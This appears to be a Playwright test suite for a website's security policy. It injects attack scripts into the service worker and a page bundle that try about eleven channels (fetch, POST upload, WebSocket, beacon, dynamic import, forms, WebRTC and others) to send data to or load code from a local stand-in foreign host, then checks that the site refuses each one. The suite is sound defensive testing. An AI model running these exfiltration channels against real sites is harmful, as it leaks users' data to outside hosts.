import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { type ForeignHost, startForeignHost } from '../support/foreignHost.ts';
import { copyOfTheSite, listen, startServer } from '../support/ownServer.ts';
import { expect, mayComplain, test as siteTest } from '../support/siteTest.ts';
import { startTool } from '../support/startTool.ts';
import { answerOfWorker, attack } from '../support/workerAttack.ts';

const test = siteTest.extend<{ foreign: ForeignHost }>({
  foreign: async ({ browserName: _ }, use) => {
    const foreign = await startForeignHost();
    await use(foreign);
    await foreign.end();
  },
});
test.use({ consent: 'unanswered' });
test.beforeEach(mayComplain);

const askServiceWorker = (page: Page) =>
  page.evaluate(
    () =>
      new Promise<Record<string, string>>((resolve) => {
        navigator.serviceWorker.addEventListener('message', ({ data }) => data.ended && resolve(data.ended));
        void navigator.serviceWorker.ready.then(({ active }) => active?.postMessage('attack'));
      }),
  );

/** Every way of the attack has been refused, and nothing has arrived. */
function expectRefused(ended: object, ways: number, { requests }: ForeignHost) {
  expect(Object.keys(ended)).toHaveLength(ways);
  expect(new Set(Object.values(ended)), JSON.stringify(ended)).toEqual(new Set(['refused']));
  expect(requests).toEqual([]);
}

test('the service worker reaches no foreign host [19.8] [19.22]', async ({ page, foreign }) => {
  const site = copyOfTheSite();
  const path = join(site.folder, 'sw.js');
  writeFileSync(path, attack(foreign.host) + readFileSync(path, 'utf8'));
  const server = await startServer(site.folder);
  await page.goto(`${server.address}/datenschutz`);
  await page.getByRole('button', { name: 'Akzeptieren' }).click();
  expectRefused(await askServiceWorker(page), 6, foreign);
  await server.end();
  site.remove();
});

test('without the policy of the answer the attack succeeds', async ({ page, foreign }) => {
  const server = await listen(
    createServer((request, response) => {
      const isScript = request.url === '/worker.js';
      response.writeHead(200, { 'Content-Type': isScript ? 'text/javascript' : 'text/html' });
      response.end(isScript ? attack(foreign.host) : '<title>x</title>');
    }),
  );
  await page.goto(server.address);
  expect(await page.evaluate(answerOfWorker, '/worker.js')).toMatchObject({
    fetch: 'got through',
    upload: 'got through',
    import: 'got through',
    nested: 'got through',
  });
  const arrived = ['/fetch', '/upload', '/socket', '/import.js', '/nested'];
  expect(foreign.requests).toEqual(expect.arrayContaining(arrived));
  await server.end();
});

test('a script of a page reaches no foreign host [19.8] [19.22]', async ({ page, foreign, baseURL }) => {
  const [script = ''] = readdirSync('dist/_astro').filter((name) => /^Calculator\..*\.js$/.test(name));
  const ways = `
    const host = '${foreign.host}';
    const image = (rel, as) => { const link = document.createElement('link'); Object.assign(link, { rel, as, href: 'http://' + host + '/' + rel }); document.head.append(link); };
    const element = (name, source) => new Promise((resolve, reject) => { const made = document.createElement(name); made.onload = resolve; made.onerror = reject; made[source] = 'http://' + host + '/' + name; document.body.append(made); });
    const ways = {
      fetch: () => fetch('http://' + host + '/fetch'),
      upload: () => fetch('http://' + host + '/upload', { method: 'POST', body: '532013000', mode: 'no-cors' }),
      request: () => new Promise((resolve, reject) => { const request = new XMLHttpRequest(); request.onload = resolve; request.onerror = reject; request.open('GET', 'http://' + host + '/request'); request.send(); }),
      socket: () => new Promise((resolve, reject) => { const socket = new WebSocket('ws://' + host + '/socket'); socket.onopen = resolve; socket.onerror = reject; }),
      events: () => new Promise((resolve, reject) => { const source = new EventSource('http://' + host + '/events'); source.onopen = resolve; source.onerror = () => { source.close(); reject(); }; }),
      beacon: () => new Promise((resolve, reject) => { document.addEventListener('securitypolicyviolation', reject); navigator.sendBeacon('http://' + host + '/beacon', '532013000'); }),
      import: () => import('http://' + host + '/import.js'),
      image: () => element('img', 'src'),
      script: () => element('script', 'src'),
      frame: () => new Promise((resolve, reject) => { document.addEventListener('securitypolicyviolation', reject); void element('iframe', 'src').catch(() => {}); }),
      form: () => new Promise((resolve, reject) => { document.addEventListener('securitypolicyviolation', reject); const form = document.createElement('form'); form.action = 'http://' + host + '/form'; document.body.append(form); form.submit(); }),
    };
    window.attack = async () => {
      image('prefetch'); image('preload', 'fetch');
      const ended = {};
      for (const [way, go] of Object.entries(ways)) ended[way] = await Promise.resolve().then(go).then(() => 'got through', () => 'refused');
      return ended;
    };`;
  await page.route(`**/_astro/${script}`, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: ways + (await response.text()) });
  });
  await page.goto(`${baseURL}/`);
  await startTool(page);
  await page.waitForFunction(() => 'attack' in window);
  const ended = await page.evaluate(() => (window as unknown as { attack(): Promise<object> }).attack());
  expectRefused(ended, 11, foreign);
});

test('a script of a page cannot reach a foreign host by WebRTC [19.9]', async ({ page, foreign }) => {
  const connect = (page: Page, port: number) =>
    page.evaluate(async (stunPort) => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stunPort}` }] });
      connection.createDataChannel('way out');
      await connection.setLocalDescription(await connection.createOffer());
      // Stored, so that it is not garbage-collected.
      Object.assign(window, { connection });
    }, port);
  await page.goto('/');
  await connect(page, foreign.stunPort);

  // Without the header the packets arrive. Packets of the first page would have arrived earlier.
  const control = await startForeignHost();
  const other = await page.context().newPage();
  await other.route('**/kontakt', async (route) => {
    const answer = await route.fetch();
    const headers = { ...answer.headers() };
    delete headers['connection-allowlist'];
    await route.fulfill({ response: answer, headers });
  });
  await other.goto('/kontakt');
  await connect(other, control.stunPort);
  await expect.poll(() => control.packets).toBeGreaterThan(0);
  expect(foreign.packets).toBe(0);
  await control.end();
});

test('no page may use camera, microphone, location, clipboard or devices', async ({ page }) => {
  await page.goto('/iban-aufbau');
  const allowed = await page.evaluate(() => {
    // The types of TypeScript lack this API of Chromium.
    const { featurePolicy } = document as unknown as { featurePolicy: { allowedFeatures: () => string[] } };
    return featurePolicy.allowedFeatures();
  });
  expect(allowed).toContain('clipboard-write');
  for (const feature of ['camera', 'microphone', 'geolocation', 'clipboard-read', 'display-capture', 'usb'])
    expect(allowed).not.toContain(feature);
});
